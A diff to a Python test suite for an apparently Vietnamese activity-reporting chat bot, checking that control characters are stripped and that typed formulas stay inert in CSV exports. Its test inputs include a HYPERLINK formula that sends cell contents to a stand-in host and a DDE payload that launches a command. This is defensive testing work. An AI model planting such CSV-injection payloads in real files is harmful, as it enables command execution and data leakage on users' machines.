@@ -30,7 +30,7 @@ from handlers.reports.exports import activity_rows, to_csv
 from storage.models import ActivityReport, OutboxMessage, Person
 from storage.people import Role
 from storage.text import inert, printable, record_id
-from tests.helpers import DA_NANG, Transcript, invite, member, seed_units
+from tests.helpers import DA_NANG, Transcript, activity_lines, invite, member, seed_units
 from tests.test_overseas import RECORD, add_record
 
 APOLOGY = "Xin lỗi, hệ thống vừa gặp sự cố"
@@ -40,8 +40,8 @@ FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'
 async def test_control_characters_never_reach_the_database(app: App) -> None:
     await seed_units(app)
     officer = await member(app, "mai")
-    for line in ["/baocao", "tuyen truyen", "hôm nay", "Tuyên\x00 truyền\x1b[31m Chỉ thị 12", "Mô tả\x00\r\ndòng hai",
-                 "Hội trường\x07", "bỏ qua", "40", "bỏ qua", "bỏ qua", "xong"]:  # fmt: skip
+    for line in activity_lines("tuyen truyen", "hôm nay", "Tuyên\x00 truyền\x1b[31m Chỉ thị 12", "Hội trường\x07", "40",
+                               description="Mô tả\x00\r\ndòng hai"):  # fmt: skip
         assert APOLOGY not in await officer.say(line)
     assert "Đã lưu" in await officer.say("xác nhận")
     assert APOLOGY not in await officer.say("/kieubao tim \x00")
@@ -82,8 +82,8 @@ def test_printable_text_has_no_control_characters(text: str) -> None:
 async def test_formulas_typed_by_people_stay_text_in_exports(app: App) -> None:
     await seed_units(app)
     officer = await member(app, "mai")
-    for line in ["/baocao", "tuyen truyen", "hôm nay", FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "bỏ qua",
-                 "40", "bỏ qua", "bỏ qua", "xong", "xác nhận"]:  # fmt: skip
+    for line in [*activity_lines("tuyen truyen", "hôm nay", FORMULA, "-2+3", "40",
+                                 description="@SUM(1+1)*cmd|' /C calc'!A0"), "xác nhận"]:  # fmt: skip
         await officer.say(line)
     rows = await activity_rows(app.db, None, actor_label="test")
     exported = list(csv.DictReader(io.StringIO(to_csv(rows))))
